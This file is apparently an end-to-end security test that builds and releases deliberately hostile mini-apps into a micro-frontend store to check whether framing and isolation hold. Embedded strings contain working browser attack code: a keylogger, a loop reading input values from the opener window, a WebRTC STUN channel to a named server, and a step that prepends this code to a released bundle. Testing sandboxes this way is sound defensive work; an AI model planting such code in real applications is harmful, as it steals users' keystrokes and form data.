/** The hostile remotes: built and released as teams do, with the ways in them and a file that also runs as a worker. */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { publish } from '@yaksok/platform/release'
import { forkRelease } from '@yaksok/platform/testing'
import { buildNewRemote, type NewRemote } from '../../../../tests/e2e/src/new-part.ts'
import { contract } from './families/contract.ts'

const HERE = import.meta.dirname
const FAMILIES = join(HERE, 'families')

/** Gives the observer the ways, wherever the screen is. */
const HOSTILE = `import { families } from './families/index.ts'

const loot: unknown[] = []
export const hostile = {
  loot,
  page: undefined as unknown,
  run: async (id: string, given: object) => {
    const way = families.flatMap(({ ways }) => ways).find((one) => one.id === id)
    return await way?.run({ ...given, loot } as never)
  },
}
Object.assign(globalThis, { hostile })
`

const SCREEN = `import * as session from '@yaksok/shared/page/session'
import { AppBar, Screen } from '@yaksok/shared/page/ui'
import '../hostile.ts'

Object.assign(globalThis, { session })

export default function Evil() {
  return <Screen bar={<AppBar title="쿠폰" />}><p>쿠폰이 없어요</p></Screen>
}
`

/** A frame has none of the app's own modules. */
const FRAMED = `import { hostile } from '../hostile.ts'

export default function Caged({ page }: { page: unknown }) {
  hostile.page = page
  return <p>쿠폰이 없어요</p>
}
`

/**
 * Stands before the container's own code: as a worker, as a script with a name in its address, and where it has left a
 * cookie, the file does what the ways want of it. A team can release any script.
 */
const ELSEWHERE = `(() => {
  const isPage = typeof document !== 'undefined'
  const name = isPage ? (document.currentScript?.src ?? '').split('#')[1] : 'worker'
  // a frame has no cookies
  if (isPage && origin !== 'null' && document.cookie.includes('hears')) {
    window.loot = []
    addEventListener('keydown', ({ key }) => loot.push('key ' + key), true)
  }
  if (!name) return
  const tell = () => void fetch('/planted-' + name).catch(() => {})
  if (name.startsWith('rtc:')) {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + name.slice(4) }] })
    peer.createDataChannel('a')
    return void peer.createOffer().then((offer) => peer.setLocalDescription(offer))
  }
  if (name !== 'watch-opener') return void (tell(), setInterval(tell, 200))
  window.loot = []
  setInterval(() => {
    try {
      for (const input of opener.document.querySelectorAll('input')) loot.push(input.value)
    } catch (error) {
      loot.push(String(error))
    }
  }, 20)
})();`

/** Calls that the framed one names in its manifest: those of the member come to nothing all the same. */
const NAMED = [
  ...Object.entries(contract).flatMap(([id, declared]) => ('isPublic' in declared ? [id] : [])),
  ...['userInfo', 'userBank', 'sessions', 'moneyEntries', 'inquiries', 'bookings', 'notifications', 'passkeys'],
]

/** Releases both into a store, to everybody: one into the page, one that has to stay in frames. */
export async function releaseHostile(store: string): Promise<void> {
  await release(store, 'evil', SCREEN, { routes: [{ path: '/Evil', screen: 'main', title: '쿠폰', tabBar: true }] })
  await release(store, 'caged', FRAMED, {
    isolation: 'frame',
    frame: { calls: NAMED },
    routes: [{ path: '/Caged', screen: 'main', title: '쿠폰', tabBar: true }],
    cards: [{ place: 'home', order: 1, expose: 'main' }],
  })
}

async function release(store: string, name: string, screen: string, description: NewRemote['description']) {
  const files = readdirSync(FAMILIES).map((file) => [`families/${file}`, readFileSync(join(FAMILIES, file), 'utf8')])
  const built = await buildNewRemote(store, {
    name,
    description,
    sources: {
      ...Object.fromEntries(files),
      'way.ts': readFileSync(join(HERE, 'way.ts'), 'utf8'),
      'hostile.ts': HOSTILE,
      'main/index.tsx': screen,
    },
  })
  await publish(store, built)
  const entry = new RegExp(`${built.entry.replaceAll('.', '\\.')}$`)
  await publish(store, forkRelease(store, name, { version: '1.0.1', files: [[entry, (text) => ELSEWHERE + text]] }))
}
